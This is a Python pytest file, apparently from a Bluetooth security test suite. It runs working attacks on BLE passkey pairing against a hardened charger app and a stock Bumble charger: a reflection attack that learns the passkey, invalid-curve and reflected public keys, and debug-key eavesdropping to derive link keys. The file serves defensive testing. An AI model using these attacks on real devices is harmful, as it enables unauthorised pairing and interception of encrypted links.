"""The mirror: at the phone's dialog it shows each side a public key that no honest side has.

It wants a code without knowing one, or a key that others can work out: by the charger's own key
come back, the same point turned over, points of other curves, and the key that everybody knows.
Between a phone and its charger it returns to the phone what the phone sent, and so learns a code.
"""

import asyncio
from collections.abc import Sequence
from contextlib import AsyncExitStack
from pathlib import Path

import pytest
from bumble import crypto, hci, pairing
from bumble.core import ProtocolError
from bumble.crypto.cryptography import EccKey
from bumble.device import Connection, Device
from bumble.smp import (
    SMP_CID,
    SMP_DEBUG_KEY_PRIVATE,
    SMP_DEBUG_KEY_PUBLIC_X,
    SMP_DEBUG_KEY_PUBLIC_Y,
    ErrorCode,
)

from attacks.dialog import (
    STOCK_CHARGER,
    Display,
    Phones,
    device,
    let_in,
    of,
    phones,
    stock_charger,
    window,
)
from attacks.report import Row, Tell
from attacks.stage import victim
from chargepin.app.pairing import PhonePaired
from chargepin.core import p256
from charger.initiator import PASSKEY_REQUEST, ROUNDS, Typing, encrypted_with, failed
from charger.rig import Wire
from ends import both_ends

CODE = 271_828
MIRROR = "F2:00:00:00:FF:FF"
DEBUG = SMP_DEBUG_KEY_PUBLIC_X[::-1] + SMP_DEBUG_KEY_PUBLIC_Y[::-1]
SHOWN_KEY, CONFIRM, RANDOM, FAILED = 0x0C, 0x03, 0x04, 0x05


def keys(theirs: bytes) -> dict[str, bytes]:
    """Public keys to answer with, given the one that the charger showed before."""
    x, y = theirs[:32], theirs[32:]
    minus_y = (p256.PRIME - int.from_bytes(y, "little")).to_bytes(32, "little")
    return {
        "its own": theirs,
        "its own, turned over": x + minus_y,
        "its own x on another curve": x + bytes(32),
        "everybody's": DEBUG,
        "nothing": bytes(64),
        "no point": b"\x01" * 64,
        "beyond the field": b"\xff" * 64,
    }


async def shown_key(attacker: Phones, key: bytes | None = None) -> bytes:
    """Begin to pair with a public key; gives the charger's, or its refusal."""
    initiator = Typing(await attacker.link())
    assert (await initiator.request())[0] == 0x02
    answer = await initiator.exchange_keys(None if key is None else bytes([SHOWN_KEY]) + key)
    await initiator.connection.disconnect()
    return answer


async def taken(attacker: Phones) -> list[str]:
    """The keys that the charger takes for a phone's."""
    theirs = (await shown_key(attacker))[1:]
    found = []
    for name, key in keys(theirs).items():
        answer = await shown_key(attacker, key)
        if answer[0] == SHOWN_KEY:
            found.append(name)
        else:
            assert answer[0] == FAILED
    return found


# ---- a listener who knows everybody's key -------------------------------------------------------


def worked_out(heard: Sequence[bytes], said: Sequence[bytes], a: bytes, b: bytes) -> bytes:
    """The key of a link whose phone used the debug key, from what was on the air alone."""
    mine = EccKey.from_private_key_bytes(SMP_DEBUG_KEY_PRIVATE)
    their_key = next(pdu[1:] for pdu in heard if pdu[0] == SHOWN_KEY)
    nonces = [[pdu[1:] for pdu in side if pdu[0] == RANDOM] for side in (said, heard)]
    dhkey = mine.dh(their_key[:32][::-1], their_key[32:][::-1])[::-1]
    return crypto.f5(dhkey, nonces[0][-1], nonces[1][-1], a, b)[1]


class Recorder(Wire):
    """A channel that keeps what went over it."""

    def __init__(self, connection: Connection, channel: int) -> None:
        super().__init__(connection, channel)
        self.said: list[bytes] = []
        self.heard: list[bytes] = []

    def send(self, pdu: bytes) -> None:
        self.said.append(pdu)
        super().send(pdu)

    async def hear(self) -> bytes:
        self.heard.append(await super().hear())
        return self.heard[-1]


async def overheard(attacker: Phones) -> bool:
    """Whether a phone that pairs with the debug key has a key that a listener has too."""
    phone = Typing(await attacker.link())
    wire = phone.wire = Recorder(phone.connection, SMP_CID)
    phone.key = EccKey.from_private_key_bytes(SMP_DEBUG_KEY_PRIVATE)
    await phone.begin()
    await phone.rounds(CODE)
    await phone.check()
    a, b = phone.connection.self_address, phone.connection.peer_address
    key = worked_out(wire.heard, wire.said, bytes(a) + b"\x01", bytes(b) + b"\x01")
    same = await encrypted_with(phone.connection, key)
    await phone.connection.disconnect()
    return same


# ---- between a phone and its charger ------------------------------------------------------------


class Mirror:
    """A charger that returns to a phone what the phone sent; known: the code that it learned."""

    def __init__(self, own: Device) -> None:
        self.known: asyncio.Future[int] = asyncio.get_running_loop().create_future()
        self._own = own
        self._bits = 0
        self._round = 0
        self._key = self._confirm = b""
        own.l2cap_channel_manager.register_fixed_channel(SMP_CID, self._heard)

    def _heard(self, handle: int, pdu: bytes) -> None:
        for answer in self._answers(pdu):
            self._own.connections[handle].send_l2cap_pdu(SMP_CID, answer)

    def _answers(self, pdu: bytes) -> list[bytes]:
        match pdu[0]:
            case 0x01:  # it shows a code, too
                return [bytes([0x02, 0x00, 0x00, 0x0D, 16, 0x02, 0x00])]
            case code if code == SHOWN_KEY:
                self._key = pdu[1:]
                return [pdu]
            case code if code == CONFIRM:
                self._confirm = pdu[1:]
                return [pdu]
            case code if code == RANDOM:
                x = self._key[:32]
                bit = int(crypto.f4(x, x, pdu[1:], b"\x81") == self._confirm)
                self._bits |= bit << self._round
                self._round += 1
                if self._round == ROUNDS:
                    self.known.set_result(self._bits)
                return [pdu]
            case _:
                return [failed(ErrorCode.DHKEY_CHECK_FAILED)]


class Person(pairing.PairingDelegate):
    """Types what the charger's app shows."""

    def __init__(self, code: int) -> None:
        super().__init__(pairing.PairingDelegate.KEYBOARD_INPUT_ONLY)
        self.code = code

    async def get_number(self) -> int:
        return self.code


async def learned(radio: str, attacker: Phones, code: int) -> int:
    """A person's stock phone pairs with the mirror; gives what that learned."""
    async with AsyncExitStack() as stack:
        own = await device(stack, radio, MIRROR)
        await own.start_advertising(advertising_interval_min=20, advertising_interval_max=20)
        mirror = Mirror(own)
        phone = await attacker.phone()
        phone.pairing_config_factory = lambda _: pairing.PairingConfig(
            delegate=Person(code),
            identity_address_type=pairing.PairingConfig.AddressType.RANDOM,
        )
        link = await phone.connect(hci.Address(MIRROR))
        with pytest.raises(ProtocolError, match="DHKEY_CHECK_FAILED"):
            await link.pair()
        assert not link.is_encrypted
        found = await mirror.known
        await link.disconnect()
        await own.power_off()
        return found


async def paired(attacker: Phones, code: int, phone: Device | None = None) -> Connection | None:
    """The link of a phone into which a code was typed; None if it was the wrong one."""
    typing = Typing(await attacker.link(phone))
    assert (await typing.request(PASSKEY_REQUEST))[0] == 0x02
    await typing.exchange_keys()
    for step in range(ROUNDS):
        await typing.commit(code >> step & 1)
        answer = await typing.reveal()
        if answer[0] != RANDOM:
            await typing.connection.disconnect()
            return None
        typing.nb = answer[1:]
    typing.derive(typing.nb, code)
    await typing.check()
    await typing.encrypt()
    typing.give_identity(bytes(16), str(typing.connection.self_address))
    return typing.connection


async def pairs(attacker: Phones, code: int) -> bool:
    """Whether a code opens the stock service."""
    link = await paired(attacker, code)
    if link is None:
        return False
    inside = await let_in(link)
    await link.disconnect()
    return inside


async def test_mirror(tmp_path: Path, tell: Tell) -> None:
    codes = iter((CODE, 314_159, *range(100)))
    async with victim(tmp_path / "held", draw=lambda _: next(codes)) as on:
        owner, radio = await on.owner_in(), on.ends.room.address
        async with window(owner) as shown, phones(radio, of(on)) as attacker:
            assert await taken(attacker) == []
            assert shown.spent == 0
            # What the mirror learns of a phone is the code of one attempt, and no passcode.
            code = await learned(radio, attacker, int(shown.codes[-1].code))
            assert code == CODE
            assert await pairs(attacker, code)
            await shown.until(PhonePaired)
            assert on.charged == 0
        (paired,) = [each for each in await owner.phones() if each.kind == "bluetooth"]
        assert paired.role == "user"
        await owner.forget_phone(paired.id)
        async with window(owner), phones(radio, of(on)) as attacker:
            assert not await pairs(attacker, code)
        await owner.close()

    async with both_ends(tmp_path / "stock") as ends, AsyncExitStack() as stack:
        await stack.enter_async_context(stock_charger(ends.room.address, Display(CODE)))
        attacker = await stack.enter_async_context(phones(ends.room.address, STOCK_CHARGER))
        found = await taken(attacker)
        assert {"its own", "everybody's"} <= {*found}
        assert await overheard(attacker)
        code = await learned(ends.room.address, attacker, CODE)
        assert [await pairs(attacker, code) for _ in range(2)] == [True, True]
    tell(
        Row(
            "13 mirror",
            len(keys(bytes(64))) + 2,
            "no key of its own is taken; of a phone that takes its own key back, the code of one"
            " attempt: a user, listed and forgotten",
            f"{len(found)} keys are taken, a listener works out the key of a link, and the code"
            " that it learned of one phone opens a stock Bumble charger for ever",
            "points checked, a fresh key for each pairing, known keys refused; codes are used once",
        )
    )
